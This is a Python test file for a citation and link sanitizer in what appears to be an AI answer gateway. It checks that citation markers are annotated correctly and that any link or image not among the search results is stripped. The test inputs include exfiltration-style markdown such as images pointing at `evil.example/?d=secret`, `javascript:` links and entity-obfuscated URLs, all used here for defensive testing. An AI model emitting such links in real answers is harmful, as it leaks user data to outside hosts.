"""Citations and links in an answer on its way out (`gateway.domain.citations`)."""

from __future__ import annotations

import json
import re
from itertools import pairwise

import pytest
from gateway.domain.citations import MAX_LABEL, CitedText, json_citations
from gateway.domain.search import ImageResult, WebResult
from hypothesis import example, given
from hypothesis import strategies as st

PAGES = [
    WebResult(title="Paris", url="https://www.paris.fr/a", snippet="", source="test"),
    WebResult(title="Tower", url="https://en.example.org/wiki/Tower_(Paris)", snippet="", source="test"),
]
IMAGES = [
    ImageResult(
        url="https://img.example.org/1.png",
        thumbnail_url="https://thumb.example.org/1.png",
        source_url="https://en.example.org/gallery",
        title="One",
    )
]
KNOWN = {
    PAGES[0].url,
    "https://en.example.org/wiki/Tower_%28Paris%29",
    PAGES[1].url,
    IMAGES[0].url,
    IMAGES[0].thumbnail_url,
    IMAGES[0].source_url,
}


def transformed(text: str, *, cuts: tuple[int, ...] = (), start_index: int = 0) -> tuple[str, CitedText]:
    cited = CitedText(PAGES, IMAGES, start_index=start_index)
    bounds = [0, *sorted(min(cut, len(text)) for cut in cuts), len(text)]
    pieces = [cited.feed(text[a:b]) for a, b in pairwise(bounds)]
    return "".join(pieces) + cited.close(), cited


def content_of(text: str) -> str:
    return transformed(text)[0]


@pytest.mark.parametrize("marker", ["[1]", "[2]", "[1, 2]", "[1,2]", "[1][2]", "[ 1 ]"])
def test_a_marker_stays_as_written_and_is_annotated(marker: str) -> None:
    content, cited = transformed(f"It is in Paris{marker}, they say.")

    assert content == f"It is in Paris{marker}, they say."
    assert {(c.url, c.title) for c in cited.citations} == {
        (page.url, page.title) for number, page in enumerate(PAGES, 1) if str(number) in marker
    }
    assert all(content[c.start_index : c.end_index] in (marker, "[1]", "[2]") for c in cited.citations)


def test_an_annotation_has_the_shape_that_openai_gives_it() -> None:
    _, cited = transformed("🗼 [1]")

    assert [citation.annotation() for citation in cited.citations] == [
        {
            "type": "url_citation",
            "url_citation": {"start_index": 2, "end_index": 5, "url": "https://www.paris.fr/a", "title": "Paris"},
        }
    ]


def test_indices_count_what_left_before_the_first_piece() -> None:
    content, cited = transformed("[1]", start_index=100)

    assert content == "[1]"
    assert (cited.citations[0].start_index, cited.citations[0].end_index) == (100, 103)


@pytest.mark.parametrize("text", ["See [3].", "a[0] = b[7]", "[1999]", "[x]", "[-1]", "[1.5]", "[]"])
def test_a_marker_without_a_source_stays_as_text_without_annotation(text: str) -> None:
    content, cited = transformed(text)

    assert content == text
    assert cited.citations == ()


def test_of_several_numbers_in_a_marker_only_those_with_a_source_are_annotated() -> None:
    content, cited = transformed("Yes [2, 9].")

    assert content == "Yes [2, 9]."
    assert [citation.url for citation in cited.citations] == [PAGES[1].url]


@pytest.mark.parametrize(
    ("text", "content"),
    [
        ("[Paris](https://www.paris.fr/a)", "[Paris](https://www.paris.fr/a)"),
        ("[Paris](HTTPS://WWW.paris.fr/a/)", "[Paris](https://www.paris.fr/a)"),
        ('[Paris](<https://www.paris.fr/a> "home")', "[Paris](https://www.paris.fr/a)"),
        ("[T](https://en.example.org/wiki/Tower_(Paris))", "[T](https://en.example.org/wiki/Tower_%28Paris%29)"),
        ("![One](https://img.example.org/1.png)", "![One](https://img.example.org/1.png)"),
        ("at https://www.paris.fr/a, or", "at https://www.paris.fr/a, or"),
        ("at www.paris.fr/a.", "at https://www.paris.fr/a."),
        ("(https://en.example.org/wiki/Tower_(Paris))", "(https://en.example.org/wiki/Tower_(Paris))"),
    ],
)
def test_what_the_search_found_leaves_with_the_url_as_found(text: str, content: str) -> None:
    assert content_of(text) == content


@pytest.mark.parametrize(
    ("text", "content"),
    [
        ("![chart](https://evil.example/?d=secret)", "chart"),
        ("![](https://evil.example/?d=secret)!", "!"),
        ("[click here](https://evil.example/?d=secret)", "click here"),
        ("[click](javascript:alert(1))", "click"),
        ("[click](//evil.example)", "click"),
        ("[click](</settings/delete>)", "click"),
        ("[![alt](https://evil.example/a.png)](https://evil.example/b)", "alt"),
        ("[![alt](https://evil.example/a.png)](https://www.paris.fr/a)", "[alt](https://www.paris.fr/a)"),
        ("[Paris](https://www.paris.fr/a/other)", "Paris"),
        ("see https://evil.example/?d=secret.", "see evil.example."),
        ("see <https://evil.example/?d=secret>.", "see < evil.example>."),
        ("see www.evil.example/path", "see evil.example"),
        ("see https://user:pw@evil.example/path", "see evil.example"),
        ("see https:\\//evil.example/path", "see https: //evil.example/path"),
        ("see https&#58;//evil.example/path", "see https ://evil.example/path"),
        ("see &#104;ttps&colon;&sol;/evil.example/path", "see https: //evil.example/path"),
        ('<img src="//evil.example/x.png">', '< img src="//evil.example/x.png">'),
        ("<style>body{}</style>", "< style>body{}</style>"),
        ("![x][a]\n\n[a]: //evil.example/x.png", "![x][a]\n\n[a] : //evil.example/x.png"),
        ("[a](x)(//evil.example)", "[a] (x)(//evil.example)"),
        ("[[a](https://evil.example)](https://evil.example)", "a"),
    ],
)
def test_what_the_search_did_not_find_leaves_neither_as_link_nor_as_image(text: str, content: str) -> None:
    assert content_of(text) == content


@pytest.mark.parametrize(
    "text",
    [
        "if a < b and x[i](y): return [1, 7]",
        "Use List<String> and <b>bold</b>, <br/> too.",
        "Tom & Jerry & Co; AT&T; &amp; &lt;",
        "A list:\n\n- [ ] open\n- [x] done\n",
        "Wow! What? http is a protocol, www a prefix, ftp old.",
        r"\alpha \cdot \[x\] and C:\path\file",
        "the range [a, b) is half open",
        "[an opening without an end",
    ],
)
def test_ordinary_text_leaves_as_it_is_but_for_a_space_that_breaks_a_link(text: str) -> None:
    assert content_of(text) in (text, text.replace("](", "] ("))


def test_a_link_whose_text_is_a_source_number_becomes_that_marker() -> None:
    content, cited = transformed("So it is [2](https://evil.example).")

    assert content == "So it is [2]."
    assert [(c.start_index, c.end_index, c.url) for c in cited.citations] == [(9, 12, PAGES[1].url)]


def test_plain_words_are_not_held_back() -> None:
    cited = CitedText(PAGES)

    assert [cited.feed(piece) for piece in ("Paris", " is", " nice", ".")] == ["Paris", " is", " nice", "."]


def test_no_more_is_held_than_can_still_become_a_link() -> None:
    cited = CitedText(PAGES)
    fed = "[" + "word " * 200

    left = cited.feed(fed)

    assert len(fed) - len(left) <= MAX_LABEL


TRAILING = "?!.,:;*_~'\")"
FRAGMENTS = st.sampled_from(
    [
        *"[]()<>!:/.\\&;\"'` \n1a*_-",
        "[1]", "[1, 2]", "[9]", "![", "](", "]:", "www.", "http", "https:", "//", "ht", "tps", "ftp://", "&#58;",
        "&colon;", "&#47;", "&#", "&#104;", "evil.example", "https://evil.example/x", "https://www.paris.fr/a",
        "<a", "<img ", "<b>", "https://img.example.org/1.png", "https://en.example.org/wiki/Tower_(Paris)",
        "javascript:", "é", "🗼", "\n\n",
        "[a](x)", "![b](https://evil.example/y)", "[c](https://www.paris.fr/a)", "src=", "\\/", "%", "?d=1", "@",
    ]
)  # fmt: skip
TEXTS = st.one_of(st.lists(FRAGMENTS, max_size=24).map("".join), st.text(max_size=60))
CUTS = st.lists(st.integers(min_value=0, max_value=300), max_size=8).map(tuple)


@given(TEXTS, CUTS)
def test_however_the_text_is_cut_the_same_leaves(text: str, cuts: tuple[int, ...]) -> None:
    whole, cited_whole = transformed(text)
    joined, cited_joined = transformed(text, cuts=cuts)
    by_character, cited_by_character = transformed(text, cuts=tuple(range(len(text))))

    assert joined == whole
    assert by_character == whole
    assert cited_joined.citations == cited_whole.citations == cited_by_character.citations


@given(TEXTS)
def test_every_citation_spans_its_marker(text: str) -> None:
    content, cited = transformed(text)

    for citation in cited.citations:
        marker = content[citation.start_index : citation.end_index]
        numbers = [int(number) for number in re.findall(r"\d+", marker)]
        assert re.fullmatch(r"\[ ?\d+( ?, ?\d+)* ?\]", marker)
        assert citation.url in {PAGES[number - 1].url for number in numbers if 1 <= number <= len(PAGES)}


def strange_urls_a_renderer_sees(content: str) -> set[str]:
    """What GFM makes a link of: bare URLs up to white space or `<`, targets, definitions, tags with attributes."""
    decoded = re.sub(r"&#(\d+);", lambda m: chr(int(m[1])), content).replace("&colon;", ":").replace("&sol;", "/")
    bare = set(re.findall(r"(?i)(?:(?:https?|ftp)://|www\.)[^\s<]*", re.sub(r"\]\([^\s()]*\)", "", decoded)))
    found = {url for url in bare if not any(url.startswith(k) and not url[len(k) :].strip(TRAILING) for k in KNOWN)}
    found |= {target for target in re.findall(r"\]\(([^\s()]*)", content) if target not in KNOWN}
    found |= set(re.findall(r"\]:.*", content))
    return found | set(re.findall(r"<[A-Za-z][A-Za-z0-9]*[\s/][^>]", content))


@given(TEXTS)
@example("htt![p://evil](x)")
@example("[[a](x)](https://evil.example)")
@example("<[a](/x) href=y")
@example("https://www.paris.fr/a![?d=secret](x)")
@example("https:![//evil.example](x)")
@example("www![.evil.example](x)")
@example("![!](x)[ok](https://www.paris.fr/a)")
@example("<https://a evil=1>")
def test_nothing_outside_the_result_set_leaves_as_link_or_image(text: str) -> None:
    content = content_of(text)

    assert strange_urls_a_renderer_sees(content) == set()
    assert not re.search(r"!\[[^\[\]]*\]\((?!https://(?:img|thumb)\.example\.org/1\.png\))", content)


@given(st.dictionaries(st.sampled_from(["a", "b"]), st.one_of(TEXTS, st.lists(st.integers(0, 3)))))
def test_json_citations_span_markers_inside_strings_only(value: dict[str, object]) -> None:
    content = json.dumps(value, ensure_ascii=False)
    outside = re.sub(r'"(?:[^"\\]|\\.)*"', lambda m: " " * len(m[0]), content)

    for citation in json_citations(content, PAGES):
        span = slice(citation.start_index, citation.end_index)
        assert content[span].startswith("[")
        assert not outside[span].strip()


def test_a_json_array_is_no_citation_and_a_marker_in_a_json_string_is_one() -> None:
    content = '{"years": [1, 2], "text": "Paris [1] \\"quoted [2]\\""}'

    assert [content[c.start_index : c.end_index] for c in json_citations(content, PAGES)] == ["[1]", "[2]"]
